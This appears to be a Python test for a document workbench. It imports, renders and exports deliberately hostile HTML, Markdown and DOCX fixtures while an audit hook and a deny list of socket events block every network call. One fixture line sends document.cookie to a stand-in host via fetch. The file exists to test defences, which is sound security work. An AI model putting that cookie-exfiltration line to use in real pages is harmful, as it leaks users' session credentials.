"""Import, show and export hostile files with every socket forbidden (run in its own process).

A Python audit hook (which cannot be removed, hence the separate process) fails
on the first socket created, connected or name looked up, by our code or any
library's.  The files carry every way a page or a document asks for the network:
scripts, frames, remote images, style sheets, a refresh, external Word
relationships.  Prints ``ok DOCUMENTS PASSAGES`` when nothing reached for it.
"""

from __future__ import annotations

import os
import sys
import tempfile
from pathlib import Path
from typing import Any

# Creating a socket is not network use (urllib3 probes for IPv6 support on import by
# binding one to ::1); reaching anything with it is.
FORBIDDEN = ("socket.connect", "socket.sendto", "socket.sendmsg", "socket.getaddrinfo",
             "socket.gethostbyname", "socket.gethostbyaddr", "urllib.Request",
             "http.client.connect", "ftplib.connect", "smtplib.connect", "webbrowser.open")
LOOPBACK = ("::1", "127.0.0.1", "localhost")
attempts: list[str] = []


def _guard(event: str, args: tuple[Any, ...]) -> None:
    outward_bind = event == "socket.bind" and isinstance(args[1], tuple) \
        and args[1][0] not in LOOPBACK
    if event in FORBIDDEN or outward_bind:
        attempts.append(f"{event}{args!r}"[:200])
        raise RuntimeError(f"network use during import, rendering or export: {event}")


HOSTILE_HTML = """<html><head><title>Ministers meet on grain</title>
<meta http-equiv="refresh" content="0; url=http://example.invalid/">
<link rel="stylesheet" href="http://example.invalid/a.css">
<style>@import url("http://example.invalid/b.css"); body {background: url(http://x.invalid/)}</style>
<script src="http://example.invalid/tracker.js"></script>
<script>fetch("http://example.invalid/" + document.cookie)</script></head>
<body><article><h1>Ministers meet on grain</h1>
<p>Moscow views territorial concessions by Ukraine as non-negotiable, officials said.</p>
<iframe src="http://example.invalid/frame"></iframe>
<img src="http://example.invalid/pixel.gif" srcset="http://example.invalid/2x.gif 2x">
<p>Ankara offered joint inspection teams <a href="http://example.invalid/">in its waters</a>.</p>
<object data="http://example.invalid/x.swf"></object><video src="http://example.invalid/v.mp4">
</video></article></body></html>"""

HOSTILE_MARKDOWN = """# Talks resume

![chart](http://example.invalid/chart.png) Ukraine rejected any freeze of the front line.

<img src="http://example.invalid/raw.png"> [a link](http://example.invalid/)
"""


def _hostile_docx(folder: Path) -> Path:
    from tests import corpus

    seed = corpus.docx_seed()
    rels_name = "word/_rels/document.xml.rels"
    import io
    import zipfile

    with zipfile.ZipFile(io.BytesIO(seed)) as package:
        rels = package.read(rels_name).decode("utf-8")
    rels = rels.replace("</Relationships>", (
        '<Relationship Id="rIdRemote" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/image" Target="http://example.invalid/remote.png" '
        'TargetMode="External"/></Relationships>'))
    xml = corpus.document_xml(seed).decode("utf-8").replace(
        "Nothing about us without us.", "Nothing about us without us.</w:t></w:r><w:r><w:pict>"
        '<v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata r:id="rIdRemote"/>'
        "</v:shape></w:pict></w:r><w:r><w:t>")
    data = corpus.rewrite_zip(seed, {rels_name: rels.encode(), "word/document.xml":
                                     xml.encode()})
    return corpus.write(folder, "remote.docx", data)


def run(folder: Path) -> str:
    os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")
    (folder / "page.html").write_text(HOSTILE_HTML, encoding="utf-8")
    (folder / "notes.md").write_text(HOSTILE_MARKDOWN, encoding="utf-8")
    _hostile_docx(folder)
    sys.addaudithook(_guard)

    from PySide6.QtWidgets import QApplication

    from exports.briefing import BriefingOptions
    from exports.run import KINDS, run_export
    from ui.main_window import MainWindow
    from ui.session import ProjectSession
    from workbench.briefing.selection import select_passages
    from workbench.library.bringing_in import Outcome, import_paths
    from workbench.store import Store
    from workbench.tagging import tag_passage

    app = QApplication([])
    store = Store.open(folder / "guard.wbproj", create=True, analyst="guard")
    results = import_paths(store, [folder])
    failed = [r.message for r in results if r.outcome is Outcome.FAILED]
    assert not failed, failed
    for document_id in store.documents.ids():
        document = store.documents.resolve(document_id)
        edit, _ = tag_passage(store, document=document, start=0, end=min(20, len(document.text)),
                              tag=store.tags.find("1"), note="<img src='http://x.invalid/'>")
        with store.transaction():
            edit.apply(store)
    window = MainWindow(ProjectSession(store))
    window.show()
    for document_id in store.documents.ids():
        window.open_document(document_id)
        for pane in window.compare.panes():
            pane.open_document(document_id)
        app.processEvents()
        window.grab()
    selection = select_passages(store)
    out = folder / "out"
    out.mkdir()
    for kind in KINDS:
        run_export(kind, selection, out / kind, options=BriefingOptions())
    window.close()
    window.session.close()
    assert not attempts, attempts
    return f"ok {len(selection.documents)} {len(selection.passages)}"


if __name__ == "__main__":
    with tempfile.TemporaryDirectory() as scratch:
        print(run(Path(scratch)))
